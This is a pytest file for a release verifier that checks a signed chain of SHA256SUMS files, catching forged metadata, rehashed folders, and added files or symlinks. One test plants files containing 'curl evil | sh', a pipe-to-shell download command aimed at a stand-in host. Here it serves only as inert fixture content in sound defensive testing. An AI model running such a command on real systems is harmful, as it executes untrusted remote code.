"""Every published file hangs from one signature: the release SHA256SUMS (signed) lists each
artifact folder's SHA256SUMS, which lists every file of the folder. `verify` fails on any
file edited, re-hashed without the key, or added where no checksum lists it."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from orchestrator.cli import app
from orchestrator.execute.ship.release_index import update_release_index
from orchestrator.supply.chain import SignedChain
from orchestrator.supply.index_files import CHECKSUMS, read_checksums

from .test_supply_release_files import Release, make_release

runner = CliRunner()


def _verify(release: Release) -> tuple[int, str]:
    result = runner.invoke(app, ["verify", str(release.root), "--key", str(release.public)])
    return result.exit_code, result.output


def _rehash(folder: Path) -> None:
    """What a forger without the key can do: write a fresh, consistent SHA256SUMS."""
    lines = [
        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.relative_to(folder).as_posix()}\n"
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name != CHECKSUMS
    ]
    (folder / CHECKSUMS).write_text("".join(lines))


def test_the_release_sums_list_each_folder_listing_and_the_folder_lists_every_file(
    tmp_path: Path,
) -> None:
    release = make_release(tmp_path)
    listed = read_checksums(release.root / CHECKSUMS)
    assert f"{release.folder}/{CHECKSUMS}" in listed
    inner = read_checksums(release.artifact / CHECKSUMS)
    assert {"build.json", "profiles/pgo.profdata"} <= set(inner)
    # but its logs: how the build went differs between two honest builds of it
    assert not [name for name in inner if name.startswith("logs/")]
    code, output = _verify(release)
    assert code == 0, output
    assert "log file(s) under logs/ are not signed" in output


def test_a_log_is_not_signed_and_an_edited_one_fails_nothing(tmp_path: Path) -> None:
    release = make_release(tmp_path)
    (log,) = (release.artifact / "logs").glob("*.log")
    log.write_text("whatever a runner says\n")
    code, output = _verify(release)
    assert code == 0, output


def test_a_folder_whose_older_listing_signed_its_logs_is_still_vouched_for(
    tmp_path: Path,
) -> None:
    """A release made before logs left the signature: its folder SHA256SUMS lists them.
    The chain still vouches for the folder (a release run again re-signs it, the action
    cache keeps it), and verify still checks the logs it lists."""
    release = make_release(tmp_path)
    _rehash(release.artifact)  # the old listing: every file, logs too
    update_release_index(release.root, release.signer, vouched=(release.folder,))
    chain = SignedChain.read(release.root, release.signer.key.public)
    assert f"{release.folder}/logs/build-release.log" in chain.files
    assert chain.folder_problem(release.folder) is None
    assert _verify(release)[0] == 0


@pytest.mark.parametrize("forged", ["build.json", "profiles/pgo.profdata"])
def test_forged_metadata_fails_even_with_its_folder_sums_rewritten(
    tmp_path: Path, forged: str
) -> None:
    release = make_release(tmp_path)
    path = release.artifact / forged
    path.write_bytes(path.read_bytes() + b" \n")  # still valid JSON, a different file
    code, output = _verify(release)
    assert code == 48 and forged in output, output
    _rehash(release.artifact)  # consistent again below the folder, but not with the signature
    code, output = _verify(release)
    assert code == 48, output
    assert f"{release.folder}/{CHECKSUMS}: sha256 differs" in output


@pytest.mark.parametrize(
    "where",
    [
        "extra.sh",
        "ARTIFACT/extra.sh",
        "ARTIFACT/logs/.hidden",
        "ARTIFACT/logs/run.sh",
        "logs/x.log",
    ],
)
def test_an_added_file_is_flagged(tmp_path: Path, where: str) -> None:
    release = make_release(tmp_path)
    added = release.root / where.replace("ARTIFACT", release.folder)
    added.parent.mkdir(exist_ok=True)
    added.write_text("curl evil | sh\n")
    code, output = _verify(release)
    assert code == 48, output
    assert "no signed checksum lists" in output
    assert added.relative_to(release.root).as_posix() in output


def test_an_added_symlink_is_flagged(tmp_path: Path) -> None:
    release = make_release(tmp_path)
    (release.root / "latest").symlink_to(release.artifact / release.binary)
    code, output = _verify(release)
    assert code == 48 and "latest" in output, output
